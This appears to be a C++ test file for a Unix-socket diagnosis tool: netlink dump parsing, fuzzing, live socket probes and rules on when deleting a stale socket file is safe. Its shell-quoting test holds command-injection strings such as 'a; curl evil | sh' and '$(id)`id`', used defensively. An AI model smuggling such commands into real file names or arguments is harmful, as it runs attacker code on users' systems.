// AF_UNIX diagnosis: the unix sock_diag request and a dump recorded from a real
// kernel, hostile input, path facts on live sockets, and every unix rule on plain data.
#include "diag/causes.hpp"
#include "diag/causes_common.hpp"
#include "diag/causes_unix.hpp"
#include "diag/facts.hpp"
#include "fixtures.hpp"
#include "diag/unix_sockets.hpp"

#include <catch2/catch.hpp>

#include <linux/netlink.h>
#include <linux/sock_diag.h>
#include <linux/unix_diag.h>
#include <dirent.h>
#include <fcntl.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <sys/un.h>
#include <unistd.h>

#include <algorithm>
#include <cerrno>
#include <cstddef>
#include <cstring>
#include <random>
#include <string>
#include <vector>

using namespace portshim;
using namespace portshim::fixtures;

namespace {

const std::string dump_file = PORTSHIM_TEST_DATA "/unix/dump.hex";

/** The recorded recv() chunks: one hex line each, '#' lines are comments. */
std::vector<std::vector<std::uint8_t>> recorded_chunks() {
    std::vector<std::vector<std::uint8_t>> chunks;
    const int fd = ::open(dump_file.c_str(), O_RDONLY | O_CLOEXEC);
    REQUIRE(fd >= 0);
    std::string text;
    char buf[4096];
    for (ssize_t n; (n = ::read(fd, buf, sizeof buf)) > 0;) text.append(buf, static_cast<std::size_t>(n));
    ::close(fd);
    for (std::size_t pos = 0; pos < text.size();) {
        const std::size_t end = std::min(text.find('\n', pos), text.size());
        const std::string line = text.substr(pos, end - pos);
        pos = end + 1;
        if (line.empty() || line[0] == '#') continue;
        std::vector<std::uint8_t> bytes;
        for (std::size_t i = 0; i + 1 < line.size(); i += 2)
            bytes.push_back(static_cast<std::uint8_t>(std::stoul(line.substr(i, 2), nullptr, 16)));
        chunks.push_back(std::move(bytes));
    }
    return chunks;
}

std::vector<UnixSocket> replay() {
    std::vector<UnixSocket> out;
    sockets::DumpStatus status;
    for (const auto& chunk : recorded_chunks()) {
        REQUIRE_FALSE(status.done);
        status = unix_sockets::parse_dump(chunk.data(), chunk.size(), out);
        REQUIRE(status.error == 0);
    }
    REQUIRE(status.done);
    return out;
}

const UnixSocket* by_inode(const std::vector<UnixSocket>& all, std::uint64_t inode) {
    for (const UnixSocket& s : all)
        if (s.inode == inode) return &s;
    return nullptr;
}

/** The recorded live.sock file as lstat saw it (README.txt). */
UnixPath recorded_live_path() {
    UnixPath p;
    p.checked = true;
    p.file_type = S_IFSOCK;
    p.ino = 10969095;
    p.dev = makedev(254, 0);
    return p;
}

std::size_t open_fd_count() {
    std::size_t n = 0;
    DIR* dir = ::opendir("/proc/self/fd");
    REQUIRE(dir != nullptr);
    while (const dirent* d = ::readdir(dir)) n += d->d_name[0] != '.';
    ::closedir(dir);
    return n;
}

/** A unix socket of `type` bound at `path` (listening if a stream); abstract for "@...". */
int bound_socket(int type, const std::string& path) {
    const int fd = ::socket(AF_UNIX, type | SOCK_CLOEXEC, 0);
    REQUIRE(fd >= 0);
    sockaddr_un addr{};
    addr.sun_family = AF_UNIX;
    std::memcpy(addr.sun_path, path.data(), path.size());
    if (path[0] == '@') addr.sun_path[0] = '\0';
    const auto len = static_cast<socklen_t>(offsetof(sockaddr_un, sun_path) + path.size() +
                                            (path[0] == '@' ? 0 : 1));
    REQUIRE(::bind(fd, reinterpret_cast<sockaddr*>(&addr), len) == 0);
    if (type == SOCK_STREAM) REQUIRE(::listen(fd, 4) == 0);
    return fd;
}

std::uint64_t inode_of(int fd) {
    struct stat st {};
    REQUIRE(::fstat(fd, &st) == 0);
    return st.st_ino;
}

// ---- plain data for the rules ----

Request unix_request(const std::string& path, Proto proto = Proto::unix_stream) {
    Request r;
    r.proto = proto;
    r.fd = 3;
    r.err = EADDRINUSE;
    r.inode = 9999;
    r.unix_path = path;
    return r;
}

UnixSocket unix_socket(const std::string& name, std::uint64_t inode, std::uint8_t state,
                       int type = SOCK_STREAM) {
    UnixSocket s;
    s.type = static_cast<std::uint8_t>(type);
    s.state = state;
    s.inode = inode;
    s.name = name;
    s.uid = 1000;
    return s;
}

/** An observation of /run/app.sock, a socket file created 2 h ago. */
Observation socket_file_observation() {
    Observation o = observation_of_self();
    o.unix_path.checked = true;
    o.unix_path.file_type = S_IFSOCK;
    o.unix_path.mtime = o.host.now - 7200;
    return o;
}

} // namespace

TEST_CASE("unix build_request asks for every state with name, file and uid", "[unix]") {
    const auto req = unix_sockets::build_request(5);
    REQUIRE(req.size() == NLMSG_SPACE(sizeof(unix_diag_req)));
    nlmsghdr hdr{};
    std::memcpy(&hdr, req.data(), sizeof hdr);
    CHECK(hdr.nlmsg_len == NLMSG_LENGTH(sizeof(unix_diag_req)));
    CHECK(hdr.nlmsg_type == SOCK_DIAG_BY_FAMILY);
    CHECK(hdr.nlmsg_flags == (NLM_F_REQUEST | NLM_F_DUMP));
    CHECK(hdr.nlmsg_seq == 5);
    unix_diag_req body{};
    std::memcpy(&body, req.data() + NLMSG_HDRLEN, sizeof body);
    CHECK(body.sdiag_family == AF_UNIX);
    CHECK(body.udiag_states == 0xffffffffU);
    CHECK(body.udiag_show == (UDIAG_SHOW_NAME | UDIAG_SHOW_VFS | 0x40U));
}

TEST_CASE("recorded unix dump: listener, accepted connection, datagram, bound and abstract sockets", "[unix]") {
    const auto all = replay();
    // Unnamed sockets (the client, the socketpair) are left out.
    CHECK(all.size() == 5);
    CHECK(by_inode(all, 28396123) == nullptr);
    CHECK(by_inode(all, 28396129) == nullptr);
    CHECK(by_inode(all, 28396125) == nullptr); // closed: only its file is left

    const UnixSocket* live = by_inode(all, 28396122);
    REQUIRE(live != nullptr);
    CHECK(live->type == SOCK_STREAM);
    CHECK(live->state == tcp_state::listen);
    CHECK(live->name == "/tmp/unixwork/d/live.sock");
    CHECK(live->has_vfs);
    CHECK(live->vfs_ino == 10969095);
    CHECK(live->vfs_dev == (254U << 20));
    CHECK(live->uid == 4242);
    CHECK(unix_holds_address(*live));

    const UnixSocket* accepted = by_inode(all, 28396124);
    REQUIRE(accepted != nullptr);
    CHECK(accepted->state == tcp_state::established);
    CHECK(accepted->name == live->name); // it shares the listener's address
    CHECK_FALSE(unix_holds_address(*accepted));

    const UnixSocket* dgram = by_inode(all, 28396126);
    REQUIRE(dgram != nullptr);
    CHECK(dgram->type == SOCK_DGRAM);
    CHECK(dgram->vfs_ino == 10969097);
    CHECK(unix_holds_address(*dgram));

    const UnixSocket* bound = by_inode(all, 28396127);
    REQUIRE(bound != nullptr);
    CHECK(bound->state == tcp_state::close);
    CHECK(unix_holds_address(*bound));

    const UnixSocket* abstract = by_inode(all, 28396128);
    REQUIRE(abstract != nullptr);
    CHECK(abstract->name == "@portshim-rec");
    CHECK_FALSE(abstract->has_vfs);
    CHECK(abstract->uid == 0);
}

TEST_CASE("bound_to matches a path by its file and an abstract name by name and type", "[unix]") {
    const auto all = replay();
    const UnixPath live_path = recorded_live_path();
    std::vector<std::uint64_t> matched;
    for (const UnixSocket& s : all)
        if (unix_sockets::bound_to(s, "/tmp/unixwork/d/live.sock", SOCK_STREAM, live_path))
            matched.push_back(s.inode);
    CHECK(matched == std::vector<std::uint64_t>{28396122, 28396124});

    // Reached by a relative path: the file decides, not the spelling.
    const UnixSocket& live = *by_inode(all, 28396122);
    CHECK(unix_sockets::bound_to(live, "d/live.sock", SOCK_STREAM, live_path));
    // Another file with the same inode number on another device is not it...
    UnixPath elsewhere = live_path;
    elsewhere.dev = makedev(8, 1);
    CHECK_FALSE(unix_sockets::bound_to(live, "d/live.sock", SOCK_STREAM, elsewhere));
    // ...unless the name vouches for it (stacked file systems show lstat another device).
    CHECK(unix_sockets::bound_to(live, "/tmp/unixwork/d/live.sock", SOCK_STREAM, elsewhere));
    UnixPath gone = live_path;
    gone.lstat_error = ENOENT;
    CHECK_FALSE(unix_sockets::bound_to(live, "/tmp/unixwork/d/live.sock", SOCK_STREAM, gone));

    const UnixSocket& abstract = *by_inode(all, 28396128);
    const UnixPath none;
    CHECK(unix_sockets::bound_to(abstract, "@portshim-rec", SOCK_STREAM, none));
    CHECK_FALSE(unix_sockets::bound_to(abstract, "@portshim-rec", SOCK_DGRAM, none)); // per type
    CHECK_FALSE(unix_sockets::bound_to(abstract, "@portshim", SOCK_STREAM, none));
    CHECK_FALSE(unix_sockets::bound_to(live, "@portshim-rec", SOCK_STREAM, none));
}

TEST_CASE("unix parse_dump on every truncation and on mutated bytes", "[unix]") {
    std::vector<std::uint8_t> all;
    for (const auto& c : recorded_chunks()) all.insert(all.end(), c.begin(), c.end());
    for (std::size_t cut = 0; cut <= all.size(); ++cut) {
        const std::vector<std::uint8_t> head(all.begin(), all.begin() + static_cast<long>(cut));
        std::vector<UnixSocket> out;
        const auto status = unix_sockets::parse_dump(head.data(), head.size(), out);
        INFO("cut at " << cut);
        CHECK(status.error >= 0);
        CHECK(status.done == (cut == all.size()));
        CHECK(out.size() <= 5);
    }
    std::mt19937 rng(4242);
    for (int round = 0; round < 20000; ++round) {
        std::vector<std::uint8_t> buf = all;
        if (round % 5 == 0)
            for (auto& b : buf) b = static_cast<std::uint8_t>(rng());
        else
            for (int flips = 1 + static_cast<int>(rng() % 4); flips > 0; --flips)
                buf[rng() % buf.size()] = static_cast<std::uint8_t>(rng());
        const std::vector<std::uint8_t> exact(buf.begin(), buf.begin() + static_cast<long>(rng() % (buf.size() + 1)));
        std::vector<UnixSocket> out;
        const auto status = unix_sockets::parse_dump(exact.data(), exact.size(), out);
        CHECK(status.error >= 0);
        CHECK(out.size() <= exact.size() / sizeof(unix_diag_msg));
    }
    std::vector<UnixSocket> out;
    CHECK(unix_sockets::parse_dump(nullptr, 64, out).error == 0);
    // A message of another family is malformed here.
    std::vector<std::uint8_t> foreign(all.begin(), all.end());
    foreign[NLMSG_HDRLEN] = AF_INET;
    CHECK(unix_sockets::parse_dump(foreign.data(), foreign.size(), out).error == EBADMSG);
}

TEST_CASE("path facts: a listening socket connects, a closed one is refused, a plain file is no socket", "[unix]") {
    const TempDir dir("unit-unix");
    const std::string path = dir.path + "/a.sock";
    const std::size_t fds_before = open_fd_count();
    {
        const int fd = bound_socket(SOCK_STREAM, path);
        UnixPath p = unix_sockets::inspect_path(path);
        CHECK(p.checked);
        CHECK(p.lstat_error == 0);
        CHECK(p.file_type == S_IFSOCK);
        CHECK(p.mtime > 0);
        unix_sockets::connect_test(path, SOCK_STREAM, p);
        CHECK(p.connect == UnixConnect::accepted);
        // A datagram probe of a stream socket: EPROTOTYPE, still proof of life.
        UnixPath q = unix_sockets::inspect_path(path);
        unix_sockets::connect_test(path, SOCK_DGRAM, q);
        CHECK(q.connect == UnixConnect::accepted);
        CHECK(q.connect_error == EPROTOTYPE);

        // The live table names it, matched by its file.
        std::vector<UnixSocket> all;
        REQUIRE(unix_sockets::query_netlink(all) == 0);
        const UnixSocket* mine = by_inode(all, inode_of(fd));
        REQUIRE(mine != nullptr);
        CHECK(mine->name == path);
        CHECK(mine->state == tcp_state::listen);
        CHECK(mine->uid == ::geteuid());
        CHECK(unix_sockets::bound_to(*mine, path, SOCK_STREAM, p));
        ::close(fd);
    }
    UnixPath stale = unix_sockets::inspect_path(path);
    CHECK(stale.file_type == S_IFSOCK);
    unix_sockets::connect_test(path, SOCK_STREAM, stale);
    CHECK(stale.connect == UnixConnect::refused);
    CHECK(stale.connect_error == ECONNREFUSED);

    const std::string plain = dir.path + "/plain";
    const int f = ::open(plain.c_str(), O_CREAT | O_WRONLY | O_CLOEXEC, 0600);
    REQUIRE(f >= 0);
    ::close(f);
    CHECK(unix_sockets::inspect_path(plain).file_type == S_IFREG);
    CHECK(unix_sockets::inspect_path(dir.path + "/missing").lstat_error == ENOENT);

    UnixPath abstract = unix_sockets::inspect_path("@anything");
    CHECK_FALSE(abstract.checked);
    unix_sockets::connect_test("@anything", SOCK_STREAM, abstract);
    CHECK(abstract.connect == UnixConnect::not_run);
    CHECK(open_fd_count() == fds_before);
}

TEST_CASE("observe_unix then diagnose: a closed server's file is stale, a live one is self", "[unix]") {
    const TempDir dir("unit-unix");
    const std::string path = dir.path + "/a.sock";
    ProbeEnv env;
    const int fd = bound_socket(SOCK_STREAM, path);
    {
        Observation obs;
        obs.self.pid = static_cast<int>(::getpid());
        unix_sockets::observe_unix(unix_request(path), env, obs);
        CHECK(obs.netlink_ok);
        REQUIRE(obs.unix_sockets.size() == 1);
        CHECK(obs.unix_sockets[0].inode == inode_of(fd));
        CHECK(obs.unix_path.connect == UnixConnect::not_run); // a live server is never poked
        const Verdict v = diagnose(unix_request(path), obs);
        CHECK(cause_id(v.cause) == "self");
        REQUIRE_FALSE(v.holders.empty());
        CHECK(v.holders[0].fd == fd);
    }
    ::close(fd);
    Observation obs;
    obs.host.now = 1e10;
    unix_sockets::observe_unix(unix_request(path), env, obs);
    CHECK(obs.unix_sockets.empty());
    CHECK(obs.unix_path.connect == UnixConnect::refused);
    const Verdict v = diagnose(unix_request(path), obs);
    CHECK(cause_id(v.cause) == "stale-unix-socket");
    CHECK(any_contains(v.evidence, "ECONNREFUSED"));
    struct stat st {};
    CHECK(::lstat(path.c_str(), &st) == 0); // nothing was unlinked
}

TEST_CASE("unix rule: a stale socket file names the path, its age and the safe unlink", "[unix]") {
    Observation o = socket_file_observation();
    o.unix_path.connect = UnixConnect::refused;
    o.unix_path.connect_error = ECONNREFUSED;
    const Verdict v = diagnose(unix_request("/run/app.sock"), o);
    CHECK(cause_id(v.cause) == "stale-unix-socket");
    CHECK(contains(v.summary, "/run/app.sock"));
    CHECK(contains(v.summary, "created 2 h ago"));
    CHECK(any_contains(v.why, "without unlink()"));
    CHECK(contains(v.fix, "rm /run/app.sock"));
    CHECK(contains(v.fix, "safe"));
    CHECK(any_contains(v.confirm, "ss -xlp | grep -F -- /run/app.sock"));
    CHECK(any_contains(v.confirm, "ls -l /run/app.sock"));
    CHECK(v.holders.empty());

    // Accepted connections of the dead listener do not make it live.
    o.unix_sockets = {unix_socket("/run/app.sock", 700, tcp_state::established)};
    o.holders = {holder(4000, 1, "/usr/bin/client", {"client"}, 700, 5)};
    const Verdict still = diagnose(unix_request("/run/app.sock"), o);
    CHECK(cause_id(still.cause) == "stale-unix-socket");
    CHECK(any_contains(still.evidence, "1 accepted connection(s)"));

    // Paths with shell characters are quoted in the commands.
    const Verdict quoted = diagnose(unix_request("/run/my app's.sock"), socket_file_observation());
    CHECK(cause_id(quoted.cause) == "unknown"); // no connect result: not proven stale
    o.unix_sockets.clear();
    CHECK(contains(diagnose(unix_request("/run/my app's.sock"), o).fix, "rm '/run/my app'\\''s.sock'"));
}

TEST_CASE("unix rule: a live listener of the same program is the previous instance", "[unix]") {
    Observation o = socket_file_observation();
    o.unix_sockets = {unix_socket("/run/app.sock", 800, tcp_state::established),
                      unix_socket("/run/app.sock", 801, tcp_state::listen)};
    o.holders = {holder(4112, 1, "/opt/legacy/server", {"/opt/legacy/server"}, 801, 3,
                        o.host.now - 150)};
    const Verdict v = diagnose(unix_request("/run/app.sock"), o);
    CHECK(cause_id(v.cause) == "previous-instance");
    REQUIRE(v.holders.size() == 1);
    CHECK(v.holders[0].pid == 4112);
    CHECK(contains(v.summary, "pid 4112 (/opt/legacy/server, started 2 min ago)"));
    CHECK(contains(v.summary, "listens on /run/app.sock"));
    CHECK(contains(v.fix, "kill -TERM 4112"));
    CHECK(any_contains(v.why, "do not remove /run/app.sock"));
    CHECK(any_contains(v.confirm, "ps -o pid,ppid,lstart,args -p 4112"));
}

TEST_CASE("unix rule: a worker's master that holds no copy is the process to stop", "[unix]") {
    Observation o = socket_file_observation();
    o.unix_sockets = {unix_socket("/run/app.sock", 801, tcp_state::listen)};
    const std::vector<std::string> argv = {"/opt/legacy/server", "-W"};
    o.holders = {holder(4113, 4112, "/opt/legacy/server", argv, 801, 3, o.host.now - 150)};
    o.masters = {holder(4112, 1, "/opt/legacy/server", argv, 0, -1, o.host.now - 151)};
    Verdict v = diagnose(unix_request("/run/app.sock"), o);
    CHECK(cause_id(v.cause) == "previous-instance");
    CHECK(v.holders.at(0).pid == 4113);
    CHECK(contains(v.summary, "pid 4113 (/opt/legacy/server, started 2 min ago; a worker of pid 4112)"));
    CHECK(contains(v.fix, "kill -TERM 4112 and wait"));
    CHECK_FALSE(contains(v.fix, "4113"));
    CHECK(any_contains(v.why, "pid 4113 is a worker: its parent pid 4112 (/opt/legacy/server -W)"));
    CHECK(any_contains(v.why, "it holds no copy of the socket"));
    CHECK(any_contains(v.confirm, "ps -o pid,ppid,lstart,args -p 4112,4113"));

    // Another program on the path: the same master is the one to stop.
    o.holders[0].exe = o.masters[0].exe = "/usr/sbin/other";
    o.holders[0].argv = o.masters[0].argv = {"/usr/sbin/other"};
    v = diagnose(unix_request("/run/app.sock"), o);
    CHECK(cause_id(v.cause) == "other-service");
    CHECK(contains(v.fix, "stop pid 4112 if"));
}

TEST_CASE("unix rule: another program, this process, or nobody visible", "[unix]") {
    Observation o = socket_file_observation();
    o.unix_sockets = {unix_socket("/run/app.sock", 801, tcp_state::close, SOCK_DGRAM)};
    o.holders = {holder(300, 1, "/usr/sbin/rsyslogd", {"/usr/sbin/rsyslogd", "-n"}, 801, 4)};
    Verdict v = diagnose(unix_request("/run/app.sock", Proto::unix_dgram), o);
    CHECK(cause_id(v.cause) == "other-service");
    CHECK(contains(v.summary, "pid 300 (/usr/sbin/rsyslogd) is bound to /run/app.sock"));
    CHECK(any_contains(v.why, "/usr/sbin/rsyslogd -n"));

    o.holders.push_back(holder(o.self.pid, 1, "/opt/legacy/server", {}, 801, 7));
    v = diagnose(unix_request("/run/app.sock", Proto::unix_dgram), o);
    CHECK(cause_id(v.cause) == "self");
    CHECK(contains(v.summary, "fd 7"));

    o.holders.clear();
    o.unix_sockets[0].uid = 0;
    v = diagnose(unix_request("/run/app.sock", Proto::unix_dgram), o);
    CHECK(cause_id(v.cause) == "hidden-owner");
    CHECK(contains(v.summary, "root (uid 0)"));
    CHECK(contains(v.summary, "inode 801"));
    CHECK(any_contains(v.confirm, "sudo ss -xlp | grep -F -- /run/app.sock"));

    // Someone accepts, but no socket here is bound to the file: another network namespace.
    o.unix_sockets.clear();
    o.unix_path.connect = UnixConnect::accepted;
    v = diagnose(unix_request("/run/app.sock"), o);
    CHECK(cause_id(v.cause) == "hidden-owner");
    CHECK(any_contains(v.why, "another network namespace"));
}

TEST_CASE("unix rule: abstract names are never stale", "[unix]") {
    Observation o = observation_of_self();
    o.unix_sockets = {unix_socket("@app", 900, tcp_state::listen)};
    o.holders = {holder(4112, 1, "/opt/legacy/server", {"/opt/legacy/server"}, 900, 3)};
    Verdict v = diagnose(unix_request("@app"), o);
    CHECK(cause_id(v.cause) == "previous-instance");
    CHECK(contains(v.summary, "listens on @app"));
    CHECK_FALSE(any_contains(v.why, "do not remove"));

    o.unix_sockets.clear();
    o.holders.clear();
    o.unix_path.connect = UnixConnect::refused; // cannot happen, and must not matter
    v = diagnose(unix_request("@app"), o);
    CHECK(cause_id(v.cause) == "unknown");
    CHECK(contains(v.summary, "@app"));
    CHECK(contains(v.summary, "freed"));
    o.netlink_ok = false;
    CHECK(contains(diagnose(unix_request("@app"), o).summary, "could not be read"));
}

TEST_CASE("unix rule: a path that is not a socket, vanished or unreadable is unknown", "[unix]") {
    Observation o = socket_file_observation();
    o.unix_path.file_type = S_IFREG;
    Verdict v = diagnose(unix_request("/run/app.sock"), o);
    CHECK(cause_id(v.cause) == "unknown");
    CHECK(v.summary == "/run/app.sock exists and is a regular file, not a socket: it is no "
                       "stale socket file");
    CHECK(any_contains(v.why, "never replaces an existing file"));

    o.unix_path.file_type = S_IFLNK;
    CHECK(contains(diagnose(unix_request("/run/app.sock"), o).summary, "a symbolic link"));
    CHECK(any_contains(diagnose(unix_request("/run/app.sock"), o).why, "dangling"));

    o.unix_path.lstat_error = ENOENT;
    v = diagnose(unix_request("/run/app.sock"), o);
    CHECK(cause_id(v.cause) == "unknown");
    CHECK(contains(v.summary, "no longer exists"));

    o.unix_path.lstat_error = EACCES;
    CHECK(contains(diagnose(unix_request("/run/app.sock"), o).summary, "EACCES"));

    o.unix_path = socket_file_observation().unix_path;
    o.unix_path.connect = UnixConnect::failed;
    o.unix_path.connect_error = EACCES;
    v = diagnose(unix_request("/run/app.sock"), o);
    CHECK(cause_id(v.cause) == "unknown");
    CHECK(contains(v.summary, "failed with EACCES"));
}

TEST_CASE("unix rule: removing a path is advised only for a socket file nobody listens on", "[unix]") {
    // Whatever is not a socket file belongs to someone: /etc/shadow, a directory, a link.
    for (const std::uint32_t type : {S_IFREG, S_IFDIR, S_IFLNK, S_IFIFO, S_IFCHR}) {
        Observation o = socket_file_observation();
        o.unix_path.file_type = type;
        const Verdict v = diagnose(unix_request("/etc/shadow"), o);
        INFO("file type " << type << ": " << v.summary << " / " << v.fix);
        CHECK(cause_id(v.cause) == "unknown");
        CHECK(contains(v.summary, "not a socket"));
        CHECK(contains(v.summary, "no stale socket file"));
        CHECK_FALSE(contains(v.fix, "rm "));
        CHECK(contains(v.fix, "do not remove it"));
        CHECK(contains(v.fix, "configure another socket path"));
    }
    // A socket file whose listener is unknown (the test connect failed or was not run).
    for (const UnixConnect c : {UnixConnect::not_run, UnixConnect::failed}) {
        Observation o = socket_file_observation();
        o.unix_path.connect = c;
        o.unix_path.connect_error = c == UnixConnect::failed ? EACCES : 0;
        const Verdict v = diagnose(unix_request("/run/my app.sock"), o);
        CHECK(cause_id(v.cause) == "unknown");
        CHECK_FALSE(contains(v.fix, "rm "));
        CHECK(contains(v.fix, "do not remove it yet"));
        CHECK(contains(v.fix, "grep -F -- '/run/my app.sock'"));
    }
    // Only the refused connect proves the socket file stale.
    Observation o = socket_file_observation();
    o.unix_path.connect = UnixConnect::refused;
    o.unix_path.connect_error = ECONNREFUSED;
    CHECK(contains(diagnose(unix_request("/run/my app.sock"), o).fix, "rm '/run/my app.sock'"));
}

TEST_CASE("shell_quote keeps plain words and single-quotes everything else", "[unix]") {
    CHECK(detail::shell_quote("/run/app.sock") == "/run/app.sock");
    CHECK(detail::shell_quote("") == "''");
    CHECK(detail::shell_quote("/run/my app.sock") == "'/run/my app.sock'");
    CHECK(detail::shell_quote("a; curl evil | sh") == "'a; curl evil | sh'");
    CHECK(detail::shell_quote("it's") == "'it'\\''s'");
    CHECK(detail::shell_quote("$(id)`id`") == "'$(id)`id`'");
}
